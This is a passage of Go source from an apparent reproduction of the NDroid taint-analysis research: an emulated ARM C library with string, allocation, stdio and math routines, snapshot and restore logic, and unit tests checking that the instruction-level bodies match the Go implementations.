	"memcpy":      implMemcpy,
	"memmove":     implMemmove,
	"memset":      implMemset,
	"memcmp":      implMemcmp,
	"memchr":      implMemchr,
	"strlen":      implStrlen,
	"strcpy":      implStrcpy,
	"strncpy":     implStrncpy,
	"strcmp":      implStrcmp,
	"strncmp":     implStrncmp,
	"strcasecmp":  implStrcasecmp,
	"strncasecmp": implStrncasecmp,
	"strchr":      implStrchr,
	"strrchr":     implStrrchr,
	"strstr":      implStrstr,
	"strcat":      implStrcat,
	"strdup":      implStrdup,

	// --- allocation ---
	"malloc":  implMalloc,
	"free":    implFree,
	"calloc":  implCalloc,
	"realloc": implRealloc,

	// --- conversions ---
	"atoi":    implAtoi,
	"atol":    implAtoi,
	"strtoul": implStrtoul,
	"strtol":  implStrtol,

	// --- formatted I/O ---
	"sprintf":   implSprintf,
	"snprintf":  implSnprintf,
	"vsprintf":  implVsprintf,
	"vsnprintf": implVsnprintf,
	"fprintf":   implFprintf,
	"vfprintf":  implVfprintf,
	"sscanf":    implSscanf,

	// --- stdio ---
	"fopen":  implFopen,
	"fclose": implFclose,
	"fread":  implFread,
	"fwrite": implFwrite,
	"fgets":  implFgets,
	"fputc":  implFputc,
	"fputs":  implFputs,
	"getc":   implGetc,
	"fdopen": implFdopen,

	// --- fd I/O and friends (Table VII) ---
	"open":   syscallImpl(kernel.SysOpen),
	"close":  syscallImpl(kernel.SysClose),
	"read":   syscallImpl(kernel.SysRead),
	"write":  syscallImpl(kernel.SysWrite),
	"stat":   syscallImpl(kernel.SysStat),
	"mkdir":  syscallImpl(kernel.SysMkdir),
	"rename": syscallImpl(kernel.SysRename),
	"remove": syscallImpl(kernel.SysUnlink),
	"mmap":   syscallImpl(kernel.SysMmap),

	// --- network (Table VII) ---
	"socket":   syscallImpl(kernel.SysSocket),
	"connect":  syscallImpl(kernel.SysConnect),
	"send":     syscallImpl(kernel.SysSend),
	"sendto":   syscallImpl(kernel.SysSendto),
	"recv":     syscallImpl(kernel.SysRecv),
	"recvfrom": syscallImpl(kernel.SysRecv),

	// --- misc / stubs with stable return values (Table VII coverage) ---
	"sysconf":  implSysconf,
	"fcntl":    implZero,
	"fstat":    implZero,
	"munmap":   implZero,
	"mprotect": implZero,
	"ioctl":    implZero,
	"bind":     implZero,
	"listen":   implZero,
	"accept":   implMinusOne,
	"select":   implZero,
	"kill":     implZero,
	"fork":     implMinusOne,
	"execve":   implMinusOne,
	"chown":    implZero,
	"ptrace":   implZero,
	"dlopen":   implDlopen,
	"dlsym":    implDlsym,
	"dlclose":  implZero,
}

func syscallImpl(num uint32) Impl {
	return func(l *Libc, c *arm.CPU) {
		// The libc wrapper shares the syscall's register convention, so
		// dispatch directly.
		_ = l.Kern.Syscall(l.Task, c, num)
	}
}

func implZero(_ *Libc, c *arm.CPU)     { c.R[0] = 0 }
func implMinusOne(_ *Libc, c *arm.CPU) { c.R[0] = 0xffffffff }

func implSysconf(_ *Libc, c *arm.CPU) { c.R[0] = 4096 }

// --- memory / string ---

func implMemcpy(l *Libc, c *arm.CPU) {
	dst, src, n := c.R[0], c.R[1], c.R[2]
	l.Mem.WriteBytes(dst, l.Mem.ReadBytes(src, n))
}

func implMemmove(l *Libc, c *arm.CPU) {
	// ReadBytes snapshots, so overlap is already safe.
	implMemcpy(l, c)
}

func implMemset(l *Libc, c *arm.CPU) {
	dst, v, n := c.R[0], uint8(c.R[1]), c.R[2]
	buf := make([]byte, n)
	for i := range buf {
		buf[i] = v
	}
	l.Mem.WriteBytes(dst, buf)
}

func implMemcmp(l *Libc, c *arm.CPU) {
	a := l.Mem.ReadBytes(c.R[0], c.R[2])
	b := l.Mem.ReadBytes(c.R[1], c.R[2])
	c.R[0] = 0
	for i := range a {
		if a[i] != b[i] {
			c.R[0] = uint32(int32(a[i]) - int32(b[i]))
			return
		}
	}
}

func implMemchr(l *Libc, c *arm.CPU) {
	base, want, n := c.R[0], uint8(c.R[1]), c.R[2]
	buf := l.Mem.ReadBytes(base, n)
	for i, b := range buf {
		if b == want {
			c.R[0] = base + uint32(i)
			return
		}
	}
	c.R[0] = 0
}

func implStrlen(l *Libc, c *arm.CPU) {
	c.R[0] = uint32(len(l.Mem.ReadCString(c.R[0], 0)))
}

func implStrcpy(l *Libc, c *arm.CPU) {
	s := l.Mem.ReadCString(c.R[1], 0)
	l.Mem.WriteCString(c.R[0], s)
}

func implStrncpy(l *Libc, c *arm.CPU) {
	s := l.Mem.ReadCString(c.R[1], int(c.R[2]))
	buf := make([]byte, c.R[2])
	copy(buf, s)
	l.Mem.WriteBytes(c.R[0], buf)
}

func implStrcmp(l *Libc, c *arm.CPU) {
	a := l.Mem.ReadCString(c.R[0], 0)
	b := l.Mem.ReadCString(c.R[1], 0)
	c.R[0] = uint32(int32(strings.Compare(a, b)))
}

func implStrncmp(l *Libc, c *arm.CPU) {
	n := int(c.R[2])
	a := l.Mem.ReadCString(c.R[0], n)
	b := l.Mem.ReadCString(c.R[1], n)
	c.R[0] = uint32(int32(strings.Compare(a, b)))
}

func implStrcasecmp(l *Libc, c *arm.CPU) {
	a := strings.ToLower(l.Mem.ReadCString(c.R[0], 0))
	b := strings.ToLower(l.Mem.ReadCString(c.R[1], 0))
	c.R[0] = uint32(int32(strings.Compare(a, b)))
}

func implStrncasecmp(l *Libc, c *arm.CPU) {
	n := int(c.R[2])
	a := strings.ToLower(l.Mem.ReadCString(c.R[0], n))
	b := strings.ToLower(l.Mem.ReadCString(c.R[1], n))
	c.R[0] = uint32(int32(strings.Compare(a, b)))
}

func implStrchr(l *Libc, c *arm.CPU) {
	s := l.Mem.ReadCString(c.R[0], 0)
	idx := strings.IndexByte(s, byte(c.R[1]))
	if idx < 0 {
		c.R[0] = 0
		return
	}
	c.R[0] += uint32(idx)
}

func implStrrchr(l *Libc, c *arm.CPU) {
	s := l.Mem.ReadCString(c.R[0], 0)
	idx := strings.LastIndexByte(s, byte(c.R[1]))
	if idx < 0 {
		c.R[0] = 0
		return
	}
	c.R[0] += uint32(idx)
}

func implStrstr(l *Libc, c *arm.CPU) {
	hay := l.Mem.ReadCString(c.R[0], 0)
	needle := l.Mem.ReadCString(c.R[1], 0)
	idx := strings.Index(hay, needle)
	if idx < 0 {
		c.R[0] = 0
		return
	}
	c.R[0] += uint32(idx)
}

func implStrcat(l *Libc, c *arm.CPU) {
	dst := l.Mem.ReadCString(c.R[0], 0)
	src := l.Mem.ReadCString(c.R[1], 0)
	l.Mem.WriteCString(c.R[0]+uint32(len(dst)), src)
	_ = dst
}

func implStrdup(l *Libc, c *arm.CPU) {
	s := l.Mem.ReadCString(c.R[0], 0)
	addr := l.Malloc(uint32(len(s)) + 1)
	if addr != 0 {
		l.Mem.WriteCString(addr, s)
	}
	c.R[0] = addr
}

// --- allocation ---

func implMalloc(l *Libc, c *arm.CPU) { c.R[0] = l.Malloc(c.R[0]) }

func implFree(l *Libc, c *arm.CPU) { l.Free(c.R[0]) }

func implCalloc(l *Libc, c *arm.CPU) {
	n := c.R[0] * c.R[1]
	addr := l.Malloc(n)
	if addr != 0 {
		l.Mem.WriteBytes(addr, make([]byte, n))
	}
	c.R[0] = addr
}

func implRealloc(l *Libc, c *arm.CPU) {
	old, n := c.R[0], c.R[1]
	if old == 0 {
		c.R[0] = l.Malloc(n)
		return
	}
	oldSize, ok := l.AllocSize(old)
	if !ok {
		// The block may come from the guest-side allocator, which keeps the
		// same size-header convention at p-8.
		oldSize = l.Mem.Read32(old - 8)
		if oldSize == 0 || oldSize > 1<<20 {
			c.R[0] = 0
			return
		}
	}
	addr := l.Malloc(n)
	if addr != 0 {
		copyN := oldSize
		if n < copyN {
			copyN = n
		}
		l.Mem.WriteBytes(addr, l.Mem.ReadBytes(old, copyN))
	}
	l.Free(old)
	c.R[0] = addr
}

// --- conversions ---

// parseIntPrefix parses a leading integer. It returns the value, the number
// of digit characters, and the total characters consumed (whitespace, sign,
// base prefix, digits).
func parseIntPrefix(s string, base int) (val int64, digits, consumed int) {
	i := 0
	neg := false
	for i < len(s) && (s[i] == ' ' || s[i] == '\t') {
		i++
	}
	if i < len(s) && (s[i] == '-' || s[i] == '+') {
		neg = s[i] == '-'
		i++
	}
	if base == 0 {
		base = 10
		if strings.HasPrefix(s[i:], "0x") || strings.HasPrefix(s[i:], "0X") {
			base = 16
			i += 2
		}
	}
	start := i
	for i < len(s) {
		var d int
		ch := s[i]
		switch {
		case ch >= '0' && ch <= '9':
			d = int(ch - '0')
		case ch >= 'a' && ch <= 'f':
			d = int(ch-'a') + 10
		case ch >= 'A' && ch <= 'F':
			d = int(ch-'A') + 10
		default:
			d = 99
		}
		if d >= base {
			break
		}
		val = val*int64(base) + int64(d)
		i++
	}
	if neg {
		val = -val
	}
	return val, i - start, i
}

func implAtoi(l *Libc, c *arm.CPU) {
	s := l.Mem.ReadCString(c.R[0], 0)
	v, _, _ := parseIntPrefix(s, 10)
	c.R[0] = uint32(int32(v))
}

func implStrtoul(l *Libc, c *arm.CPU) {
	s := l.Mem.ReadCString(c.R[0], 0)
	v, _, _ := parseIntPrefix(s, int(c.R[2]))
	c.R[0] = uint32(v)
}

func implStrtol(l *Libc, c *arm.CPU) {
	s := l.Mem.ReadCString(c.R[0], 0)
	v, _, _ := parseIntPrefix(s, int(c.R[2]))
	c.R[0] = uint32(int32(v))
}

// --- dl ---

func implDlopen(_ *Libc, c *arm.CPU) { c.R[0] = 1 }

func implDlsym(l *Libc, c *arm.CPU) {
	name := l.Mem.ReadCString(c.R[1], 0)
	if addr, ok := l.syms[name]; ok {
		c.R[0] = addr
		return
	}
	c.R[0] = 0
}
