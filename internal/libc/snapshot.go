package libc

// Libc snapshot/restore for the copy-on-write System snapshot. The library
// images (assembled ARM bodies, stub slots) and symbol tables are built once
// at boot and never mutated, so only the malloc arena, FILE bookkeeping, and
// allocation counters need rewinding; arena page contents come back through
// mem.Memory's COW restore.

// LibcSnapshot holds the captured allocator and stdio state.
type LibcSnapshot struct {
	arenaNext uint32
	allocated map[uint32]uint32
	freeLists map[uint32][]uint32
	files     map[uint32]int32
	nextFP    uint32
	mallocs   uint64
	frees     uint64
}

// Snapshot captures the library's mutable state.
func (l *Libc) Snapshot() *LibcSnapshot {
	s := &LibcSnapshot{
		arenaNext: l.arenaNext,
		allocated: make(map[uint32]uint32, len(l.allocated)),
		freeLists: make(map[uint32][]uint32, len(l.freeLists)),
		files:     make(map[uint32]int32, len(l.files)),
		nextFP:    l.nextFP,
		mallocs:   l.MallocCount,
		frees:     l.FreeCount,
	}
	for a, sz := range l.allocated {
		s.allocated[a] = sz
	}
	for sz, list := range l.freeLists {
		s.freeLists[sz] = append([]uint32(nil), list...)
	}
	for fp, n := range l.files {
		s.files[fp] = n
	}
	return s
}

// Restore rewinds the allocator and stdio state to s.
func (l *Libc) Restore(s *LibcSnapshot) {
	l.arenaNext = s.arenaNext
	l.allocated = make(map[uint32]uint32, len(s.allocated))
	for a, sz := range s.allocated {
		l.allocated[a] = sz
	}
	l.freeLists = make(map[uint32][]uint32, len(s.freeLists))
	for sz, list := range s.freeLists {
		l.freeLists[sz] = append([]uint32(nil), list...)
	}
	l.files = make(map[uint32]int32, len(s.files))
	for fp, n := range s.files {
		l.files[fp] = n
	}
	l.nextFP = s.nextFP
	l.MallocCount = s.mallocs
	l.FreeCount = s.frees
}
