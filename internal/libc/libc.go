// Package libc provides the emulated bionic-style C library the synthetic
// apps' native code links against. Every function in the paper's Table VI and
// Table VII has a guest address inside the libc.so / libm.so images; calls
// reach a Go implementation through a CPU address hook (the same trampoline
// mechanism the JNI function table uses).
//
// malloc/free and the memory/string core (memcpy, memset, strlen, strcpy,
// strcmp, memmove, strcat, memcmp) have real emulated-ARM bodies as their
// canonical implementations: stock execution runs them instruction by
// instruction, and NDroid's System Lib Hook Engine replaces them with taint
// models (§V-D). Each body is also reachable under a distinct "<name>.insn"
// alias that never carries a model hook, which is what the modeled-vs-traced
// ablation (DESIGN.md E13) calls.
package libc

import (
	"fmt"
	"sort"

	"repro/internal/arm"
	"repro/internal/kernel"
	"repro/internal/mem"
)

// Impl is a host implementation of a C function: it reads AAPCS arguments
// from the CPU and leaves the return value in R0 (R0/R1 for doubles).
type Impl func(l *Libc, c *arm.CPU)

// Libc is one instance of the emulated C library bound to a task.
type Libc struct {
	Mem  *mem.Memory
	Kern *kernel.Kernel
	Task *kernel.Task

	syms      map[string]uint32
	names     map[uint32]string
	impls     map[string]Impl
	asmBacked map[string]bool

	// malloc arena (separate from the kernel brk range; see layout notes).
	arenaNext uint32
	arenaEnd  uint32
	allocated map[uint32]uint32 // addr -> size
	freeLists map[uint32][]uint32

	// FILE bookkeeping: guest FILE* -> fd.
	files  map[uint32]int32
	nextFP uint32

	// MallocCount / FreeCount feed the CF-Bench MALLOCS workload checks.
	MallocCount uint64
	FreeCount   uint64
}

const (
	arenaBase = kernel.HeapBase + 0x0200_0000
	fileBase  = kernel.HeapBase + 0x03f0_0000
)

// New builds the library image inside m, assembling the ARM bodies at
// kernel.LibcBase and assigning every other symbol a stub slot.
func New(m *mem.Memory, k *kernel.Kernel, t *kernel.Task) (*Libc, error) {
	l := &Libc{
		Mem:       m,
		Kern:      k,
		Task:      t,
		syms:      make(map[string]uint32),
		names:     make(map[uint32]string),
		impls:     make(map[string]Impl),
		asmBacked: make(map[string]bool),
		arenaNext: arenaBase,
		arenaEnd:  kernel.HeapLimit,
		allocated: make(map[uint32]uint32),
		freeLists: make(map[uint32][]uint32),
		files:     make(map[uint32]int32),
		nextFP:    fileBase,
	}

	// Assemble the instruction-level bodies first.
	prog, err := arm.Assemble(asmBodies, kernel.LibcBase, nil)
	if err != nil {
		return nil, fmt.Errorf("libc: assembling bodies: %w", err)
	}
	m.WriteBytes(prog.Base, prog.Code)
	for name, addr := range prog.Labels {
		l.syms[name] = addr
		l.names[addr&^1] = name
		l.asmBacked[name] = true
	}

	// Stub slots for Go-implemented functions without an asm body, placed
	// after the bodies. Functions with an asm body (malloc, free, and the
	// memory/string core) keep the body as their canonical symbol: stock
	// execution runs the real code and NDroid's models intercept it (§V-D).
	cursor := (prog.Base + prog.Size() + 0xff) &^ 0xff
	names := make([]string, 0, len(stdImpls))
	for name := range stdImpls {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		l.impls[name] = stdImpls[name]
		if l.asmBacked[name] {
			continue
		}
		l.syms[name] = cursor
		l.names[cursor] = name
		// A real BX LR sits in the slot so that, if a hook is ever removed,
		// calls degrade to no-ops instead of running off into zeroes.
		w, _ := arm.Encode(arm.Insn{Op: arm.OpBX, Cond: arm.CondAL, Rm: arm.LR, Rd: arm.RegNone, Rn: arm.RegNone})
		m.Write32(cursor, w)
		cursor += 16
	}

	libmNames := make([]string, 0, len(mathImpls))
	for name := range mathImpls {
		libmNames = append(libmNames, name)
	}
	sort.Strings(libmNames)
	mcursor := kernel.LibmBase
	for _, name := range libmNames {
		l.syms[name] = mcursor
		l.names[mcursor] = name
		l.impls[name] = mathImpls[name]
		w, _ := arm.Encode(arm.Insn{Op: arm.OpBX, Cond: arm.CondAL, Rm: arm.LR, Rd: arm.RegNone, Rn: arm.RegNone})
		m.Write32(mcursor, w)
		mcursor += 16
	}

	if t != nil {
		k.AddVMA(t, kernel.VMA{Start: kernel.LibcBase, End: cursor, Perms: "r-x", Name: "/system/lib/libc.so"})
		k.AddVMA(t, kernel.VMA{Start: kernel.LibmBase, End: mcursor, Perms: "r-x", Name: "/system/lib/libm.so"})
	}
	return l, nil
}

// Install registers the default execution hooks (plain Go implementations,
// no taint models) on the CPU. Symbols with real asm bodies are left alone so
// stock execution runs them; NDroid's system-lib hook engine later installs
// model-then-execute wrappers over both kinds.
func (l *Libc) Install(c *arm.CPU) {
	for name, impl := range l.impls {
		if l.asmBacked[name] {
			continue
		}
		addr := l.syms[name]
		impl := impl
		c.Hook(addr, func(c *arm.CPU) arm.HookAction {
			impl(l, c)
			return arm.ActionReturn
		})
	}
}

// AsmBacked reports whether a symbol's canonical implementation is emulated
// guest code rather than a host stub.
func (l *Libc) AsmBacked(name string) bool { return l.asmBacked[name] }

// Sym returns the guest address of a libc/libm symbol.
func (l *Libc) Sym(name string) (uint32, bool) {
	a, ok := l.syms[name]
	return a, ok
}

// Syms returns a copy of the full symbol table (for linking app assembly and
// for the hook engines).
func (l *Libc) Syms() map[string]uint32 {
	out := make(map[string]uint32, len(l.syms))
	for k, v := range l.syms {
		out[k] = v
	}
	return out
}

// NameAt resolves an address back to its symbol, if any.
func (l *Libc) NameAt(addr uint32) (string, bool) {
	n, ok := l.names[addr&^1]
	return n, ok
}

// CallImpl runs the Go implementation of name against the current CPU state.
// The system-lib hook engine uses this to execute the real behaviour after
// applying a taint model.
func (l *Libc) CallImpl(name string, c *arm.CPU) error {
	impl, ok := l.impls[name]
	if !ok {
		return fmt.Errorf("libc: no implementation for %q", name)
	}
	impl(l, c)
	return nil
}

// HasImpl reports whether name is Go-implemented (as opposed to asm-bodied).
func (l *Libc) HasImpl(name string) bool {
	_, ok := l.impls[name]
	return ok
}

// Malloc carves n bytes from the arena (8-byte aligned, 4-byte size header).
func (l *Libc) Malloc(n uint32) uint32 {
	l.MallocCount++
	size := (n + 7) &^ 7
	if lst := l.freeLists[size]; len(lst) > 0 {
		addr := lst[len(lst)-1]
		l.freeLists[size] = lst[:len(lst)-1]
		l.allocated[addr] = size
		return addr
	}
	if l.arenaNext+size+8 >= l.arenaEnd {
		return 0
	}
	l.Mem.Write32(l.arenaNext, size)
	addr := l.arenaNext + 8
	l.arenaNext += size + 8
	l.allocated[addr] = size
	return addr
}

// Free returns a malloc'd block to the free list.
func (l *Libc) Free(addr uint32) {
	if addr == 0 {
		return
	}
	size, ok := l.allocated[addr]
	if !ok {
		return
	}
	l.FreeCount++
	delete(l.allocated, addr)
	l.freeLists[size] = append(l.freeLists[size], addr)
}

// AllocSize reports the usable size of a malloc'd block.
func (l *Libc) AllocSize(addr uint32) (uint32, bool) {
	s, ok := l.allocated[addr]
	return s, ok
}
