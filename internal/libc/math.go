package libc

import (
	"math"

	"repro/internal/arm"
)

// libm follows the soft-float AAPCS: float arguments arrive in R0 (bits),
// doubles in R0/R1 (lo/hi); results return the same way.

func readDoubleArg(c *arm.CPU, first int) float64 {
	lo := uint64(c.Arg(first))
	hi := uint64(c.Arg(first + 1))
	return math.Float64frombits(hi<<32 | lo)
}

func writeDoubleRet(c *arm.CPU, v float64) {
	bits := math.Float64bits(v)
	c.R[0] = uint32(bits)
	c.R[1] = uint32(bits >> 32)
}

func d1(f func(float64) float64) Impl {
	return func(_ *Libc, c *arm.CPU) {
		writeDoubleRet(c, f(readDoubleArg(c, 0)))
	}
}

func d2(f func(a, b float64) float64) Impl {
	return func(_ *Libc, c *arm.CPU) {
		writeDoubleRet(c, f(readDoubleArg(c, 0), readDoubleArg(c, 2)))
	}
}

func f1(f func(float32) float32) Impl {
	return func(_ *Libc, c *arm.CPU) {
		c.R[0] = math.Float32bits(f(math.Float32frombits(c.R[0])))
	}
}

func f2(f func(a, b float32) float32) Impl {
	return func(_ *Libc, c *arm.CPU) {
		a := math.Float32frombits(c.R[0])
		b := math.Float32frombits(c.R[1])
		c.R[0] = math.Float32bits(f(a, b))
	}
}

// mathImpls covers every libm row of the paper's Table VI.
var mathImpls = map[string]Impl{
	"sin":   d1(math.Sin),
	"cos":   d1(math.Cos),
	"tan":   d1(math.Tan),
	"asin":  d1(math.Asin),
	"acos":  d1(math.Acos),
	"atan":  d1(math.Atan),
	"sqrt":  d1(math.Sqrt),
	"floor": d1(math.Floor),
	"ceil":  d1(math.Ceil),
	"log":   d1(math.Log),
	"log10": d1(math.Log10),
	"exp":   d1(math.Exp),
	"sinh":  d1(math.Sinh),
	"cosh":  d1(math.Cosh),
	"pow":   d2(math.Pow),
	"atan2": d2(math.Atan2),
	"fmod":  d2(math.Mod),
	"ldexp": func(_ *Libc, c *arm.CPU) {
		v := readDoubleArg(c, 0)
		writeDoubleRet(c, math.Ldexp(v, int(int32(c.Arg(2)))))
	},
	"sinf":  f1(func(x float32) float32 { return float32(math.Sin(float64(x))) }),
	"cosf":  f1(func(x float32) float32 { return float32(math.Cos(float64(x))) }),
	"sqrtf": f1(func(x float32) float32 { return float32(math.Sqrt(float64(x))) }),
	"expf":  f1(func(x float32) float32 { return float32(math.Exp(float64(x))) }),
	"powf": f2(func(a, b float32) float32 {
		return float32(math.Pow(float64(a), float64(b)))
	}),
	"atan2f": f2(func(a, b float32) float32 {
		return float32(math.Atan2(float64(a), float64(b)))
	}),
	"strtod": func(l *Libc, c *arm.CPU) {
		s := l.Mem.ReadCString(c.R[0], 0)
		writeDoubleRet(c, parseDoublePrefix(s))
	},
}

func parseDoublePrefix(s string) float64 {
	i := 0
	for i < len(s) && (s[i] == ' ' || s[i] == '\t') {
		i++
	}
	start := i
	if i < len(s) && (s[i] == '-' || s[i] == '+') {
		i++
	}
	seenDot := false
	for i < len(s) {
		if s[i] >= '0' && s[i] <= '9' {
			i++
			continue
		}
		if s[i] == '.' && !seenDot {
			seenDot = true
			i++
			continue
		}
		break
	}
	if i == start {
		return 0
	}
	var v float64
	neg := false
	j := start
	if s[j] == '-' {
		neg = true
		j++
	} else if s[j] == '+' {
		j++
	}
	frac := 0.0
	scale := 0.1
	inFrac := false
	for ; j < i; j++ {
		if s[j] == '.' {
			inFrac = true
			continue
		}
		d := float64(s[j] - '0')
		if inFrac {
			frac += d * scale
			scale /= 10
		} else {
			v = v*10 + d
		}
	}
	v += frac
	if neg {
		v = -v
	}
	return v
}
