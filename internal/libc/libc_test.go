package libc

import (
	"bytes"
	"strings"
	"testing"

	"repro/internal/arm"
	"repro/internal/kernel"
	"repro/internal/mem"
)

type env struct {
	m *mem.Memory
	k *kernel.Kernel
	t *kernel.Task
	l *Libc
	c *arm.CPU
}

func newEnv(t *testing.T) *env {
	t.Helper()
	m := mem.New()
	k := kernel.New(m)
	task := k.NewTask("test")
	l, err := New(m, k, task)
	if err != nil {
		t.Fatal(err)
	}
	c := arm.New(m)
	c.R[arm.SP] = kernel.NativeStackTop
	c.SVC = func(c *arm.CPU, num uint32) error { return k.Syscall(task, c, num) }
	l.Install(c)
	return &env{m: m, k: k, t: task, l: l, c: c}
}

// call invokes a libc symbol as guest code would: set args, BLX to it.
func (e *env) call(t *testing.T, name string, args ...uint32) uint32 {
	t.Helper()
	addr, ok := e.l.Sym(name)
	if !ok {
		t.Fatalf("no symbol %q", name)
	}
	for i, a := range args {
		if i < 4 {
			e.c.R[i] = a
		} else {
			t.Fatalf("call helper supports 4 register args")
		}
	}
	const pad = kernel.ReturnPadBase
	e.c.R[arm.LR] = pad
	e.c.SetThumbPC(addr)
	if err := e.c.RunUntil(pad, 1<<20); err != nil {
		t.Fatalf("call %s: %v", name, err)
	}
	return e.c.R[0]
}

func TestAsmBodiesMatchGoImpls(t *testing.T) {
	e := newEnv(t)
	src := uint32(0x100000)
	e.m.WriteCString(src, "hello, ndroid")

	// strlen
	if n := e.call(t, "strlen.insn", src); n != 13 {
		t.Errorf("strlen.insn = %d, want 13", n)
	}
	if n := e.call(t, "strlen", src); n != 13 {
		t.Errorf("strlen = %d, want 13", n)
	}
	if n := e.call(t, "strlen.tinsn", src); n != 13 {
		t.Errorf("strlen.tinsn = %d, want 13", n)
	}

	// memcpy
	dst1, dst2 := uint32(0x101000), uint32(0x102000)
	e.call(t, "memcpy.insn", dst1, src, 14)
	e.call(t, "memcpy", dst2, src, 14)
	if got := e.m.ReadCString(dst1, 0); got != "hello, ndroid" {
		t.Errorf("memcpy.insn result %q", got)
	}
	if !bytes.Equal(e.m.ReadBytes(dst1, 14), e.m.ReadBytes(dst2, 14)) {
		t.Error("asm and Go memcpy disagree")
	}

	// strcpy
	dst3 := uint32(0x103000)
	e.call(t, "strcpy.insn", dst3, src)
	if got := e.m.ReadCString(dst3, 0); got != "hello, ndroid" {
		t.Errorf("strcpy.insn result %q", got)
	}

	// strcmp
	s2 := uint32(0x104000)
	e.m.WriteCString(s2, "hello, ndroid")
	if got := e.call(t, "strcmp.insn", src, s2); got != 0 {
		t.Errorf("strcmp.insn equal strings = %d", got)
	}
	e.m.WriteCString(s2, "hello, ndroie")
	if got := int32(e.call(t, "strcmp.insn", src, s2)); got >= 0 {
		t.Errorf("strcmp.insn = %d, want negative", got)
	}

	// memset
	e.call(t, "memset.insn", dst1, 'x', 5)
	if got := e.m.ReadCString(dst1, 0); got != "xxxxx, ndroid" {
		t.Errorf("memset.insn result %q", got)
	}

	// memmove with overlap (dst > src)
	ov := uint32(0x105000)
	e.m.WriteBytes(ov, []byte("abcdef"))
	e.call(t, "memmove.insn", ov+2, ov, 4)
	if got := string(e.m.ReadBytes(ov, 6)); got != "ababcd" {
		t.Errorf("memmove.insn overlap = %q, want ababcd", got)
	}

	// memcmp
	a, b := uint32(0x106000), uint32(0x107000)
	e.m.WriteBytes(a, []byte{1, 2, 3})
	e.m.WriteBytes(b, []byte{1, 2, 4})
	if got := int32(e.call(t, "memcmp.insn", a, b, 3)); got >= 0 {
		t.Errorf("memcmp.insn = %d, want negative", got)
	}

	// strcat
	cat := uint32(0x108000)
	e.m.WriteCString(cat, "foo")
	catSrc := uint32(0x109000)
	e.m.WriteCString(catSrc, "bar")
	e.call(t, "strcat.insn", cat, catSrc)
	if got := e.m.ReadCString(cat, 0); got != "foobar" {
		t.Errorf("strcat.insn = %q", got)
	}
}

func TestMallocFreeReuse(t *testing.T) {
	e := newEnv(t)
	// malloc/free run as real guest code (the asm allocator); an exact-size
	// free is reused LIFO.
	p1 := e.call(t, "malloc", 64)
	if p1 == 0 {
		t.Fatal("malloc returned NULL")
	}
	e.call(t, "free", p1)
	p2 := e.call(t, "malloc", 64)
	if p2 != p1 {
		t.Errorf("free list not reused: %#x then %#x", p1, p2)
	}
	if !e.l.AsmBacked("malloc") || !e.l.AsmBacked("free") {
		t.Error("malloc/free should be asm-backed")
	}
}

func TestMallocDistinctLiveBlocks(t *testing.T) {
	e := newEnv(t)
	p1 := e.call(t, "malloc", 32)
	p2 := e.call(t, "malloc", 32)
	if p1 == p2 || p1 == 0 || p2 == 0 {
		t.Fatalf("live blocks must differ: %#x %#x", p1, p2)
	}
	// Size header convention: size at p-8.
	if got := e.m.Read32(p1 - 8); got != 32 {
		t.Errorf("size header = %d, want 32", got)
	}
}

func TestCallocZeroes(t *testing.T) {
	e := newEnv(t)
	// Dirty then free a host-arena block; calloc (host impl) must reuse and
	// zero it.
	p := e.l.Malloc(16)
	e.m.WriteBytes(p, []byte("dirtydirtydirty"))
	e.l.Free(p)
	q := e.call(t, "calloc", 4, 4)
	if q != p {
		t.Fatalf("expected reuse for determinism: %#x vs %#x", p, q)
	}
	for i := uint32(0); i < 16; i++ {
		if e.m.Read8(q+i) != 0 {
			t.Fatalf("calloc byte %d not zeroed", i)
		}
	}
}

func TestReallocPreservesPrefix(t *testing.T) {
	e := newEnv(t)
	p := e.call(t, "malloc", 8)
	e.m.WriteBytes(p, []byte("12345678"))
	q := e.call(t, "realloc", p, 32)
	if q == 0 {
		t.Fatal("realloc failed")
	}
	if got := string(e.m.ReadBytes(q, 8)); got != "12345678" {
		t.Errorf("realloc lost data: %q", got)
	}
}

func TestSprintfFamily(t *testing.T) {
	e := newEnv(t)
	buf := uint32(0x200000)
	fmtAddr := uint32(0x201000)
	strAddr := uint32(0x202000)
	e.m.WriteCString(fmtAddr, "id=%d name=%s hex=%x")
	e.m.WriteCString(strAddr, "vincent")
	n := e.call(t, "sprintf", buf, fmtAddr, 42, strAddr)
	// Fourth printf arg (hex) comes from the stack; our helper passed only
	// three registers, so hex reads whatever R3... pass via proper 4-reg call:
	_ = n
	got := e.m.ReadCString(buf, 0)
	if !strings.HasPrefix(got, "id=42 name=vincent hex=") {
		t.Errorf("sprintf = %q", got)
	}
}

func TestAtoiStrtoul(t *testing.T) {
	e := newEnv(t)
	s := uint32(0x210000)
	e.m.WriteCString(s, "-123")
	if got := int32(e.call(t, "atoi", s)); got != -123 {
		t.Errorf("atoi = %d", got)
	}
	e.m.WriteCString(s, "ff")
	if got := e.call(t, "strtoul", s, 0, 16); got != 0xff {
		t.Errorf("strtoul base16 = %#x", got)
	}
}

func TestStdioRoundTrip(t *testing.T) {
	e := newEnv(t)
	path := uint32(0x220000)
	mode := uint32(0x221000)
	data := uint32(0x222000)
	e.m.WriteCString(path, "/sdcard/test.txt")
	e.m.WriteCString(mode, "w")
	e.m.WriteCString(data, "hello file")

	fp := e.call(t, "fopen", path, mode)
	if fp == 0 {
		t.Fatal("fopen failed")
	}
	if got := e.call(t, "fputs", data, fp); got != 10 {
		t.Errorf("fputs = %d", got)
	}
	e.call(t, "fputc", '!', fp)
	e.call(t, "fclose", fp)

	content, ok := e.k.FS.ReadFile("/sdcard/test.txt")
	if !ok || string(content) != "hello file!" {
		t.Fatalf("file content = %q, ok=%v", content, ok)
	}

	// Read it back with fopen/fgets.
	e.m.WriteCString(mode, "r")
	fp = e.call(t, "fopen", path, mode)
	buf := uint32(0x223000)
	if got := e.call(t, "fgets", buf, 64, fp); got != buf {
		t.Fatalf("fgets returned %#x", got)
	}
	if got := e.m.ReadCString(buf, 0); got != "hello file!" {
		t.Errorf("fgets = %q", got)
	}
}

func TestFwriteFread(t *testing.T) {
	e := newEnv(t)
	path, mode, src, dst := uint32(0x230000), uint32(0x231000), uint32(0x232000), uint32(0x233000)
	e.m.WriteCString(path, "/data/blob")
	e.m.WriteCString(mode, "w")
	e.m.WriteBytes(src, []byte("0123456789"))
	fp := e.call(t, "fopen", path, mode)
	if got := e.call(t, "fwrite", src, 2, 5, fp); got != 5 {
		t.Errorf("fwrite = %d, want 5", got)
	}
	e.call(t, "fclose", fp)

	e.m.WriteCString(mode, "r")
